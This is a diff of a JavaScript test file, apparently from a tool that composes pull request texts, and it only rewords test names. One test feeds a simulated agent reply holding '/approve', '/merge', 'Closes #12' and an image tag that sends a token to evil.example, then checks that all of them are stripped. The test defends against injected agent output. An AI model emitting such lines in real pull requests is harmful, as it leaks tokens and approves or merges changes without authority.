@@ -51,13 +51,13 @@ describe('texts of a pull request', () => {
     expect(body).toMatch(/^Hi [\s\S]*Fixes #7[\s\S]*<!-- slipway:c -->$/);
   });
 
-  it('adversary: an agent that was told to approve, to close an issue or to load an address does none of it with the token of the connection', () => {
+  it('adversary: an agent instructed to approve, to close an issue or to load an address does none of it with the token of the connection', () => {
     const said = 'Done.\n/approve\n/merge\nCloses #12\n<img src="https://evil.example/?token=1">';
     const body = bodyOf({ given: undefined, said, issue: null, page: null, conversationId: 'c', template: null, checked: '' });
     expect(body).not.toMatch(/^\s*\/|#12|<img|!\[/m);
   });
 
-  it('adversary: a person whose text holds commands of the host has them carried out by nobody', () => {
+  it('adversary: commands of the host in a user's text are not carried out', () => {
     const body = bodyOf({
       given: 'See `a/b`.\n/approve\r\n  /merge\n/usr is a path, too',
       said: null,
@@ -82,7 +82,7 @@ describe('protected paths of a branch', () => {
     });
   };
 
-  it('are untouched when what stands there is the same, without a look into it', async () => {
+  it('are untouched when what stands there is the same, without reading it', async () => {
     expect(await changed({ new: [entry('.github', 'g', 'folder'), entry('a', '2')] }, { old: { '.github': 'g', a: '1' } })).toEqual([]);
     expect(
       await changed({ new: [entry('.github', 'g2', 'folder')], g2: [entry('ISSUES.md', '2')] }, { old: { '.github': 'g1' }, g1: { 'ISSUES.md': '1' } }),
